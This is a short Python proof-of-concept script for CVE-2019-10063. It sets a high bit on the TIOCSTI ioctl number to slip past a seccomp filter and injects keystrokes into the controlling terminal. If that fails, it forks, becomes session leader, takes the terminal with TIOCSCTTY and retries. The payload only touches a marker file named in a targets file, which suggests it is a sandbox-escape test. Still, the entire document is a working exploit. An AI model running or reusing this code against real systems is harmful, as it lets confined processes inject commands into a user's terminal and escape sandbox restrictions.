# tiocsti-highbits: CVE-2019-10063: TIOCSTI with bit 32 set slips past a
# seccomp rule that compares all 64 bits; the kernel truncates it back to
# TIOCSTI.  fcntl.ioctl would truncate it first, so ctypes calls ioctl().
# Takes the terminal with TIOCSCTTY first when the kernel asks for it.
import ctypes, fcntl, os, sys, termios
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}
libc = ctypes.CDLL(None, use_errno=True)
TIOCSTI_HIGH = termios.TIOCSTI | 1 << 32


def push(keys):
    for c in keys:
        if libc.ioctl(0, ctypes.c_ulong(TIOCSTI_HIGH), ctypes.c_char_p(bytes([c]))) < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


keys = f"touch {T['T_MARKER']}\n".encode()
try:
    push(keys)
except OSError as e:
    print("TIOCSTI | 1 << 32:", e, flush=True)
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            fcntl.ioctl(0, termios.TIOCSCTTY, 0)
            push(keys)
        except OSError as e:
            print("as session leader:", e, flush=True)
        os._exit(0)
    os.waitpid(pid, 0)
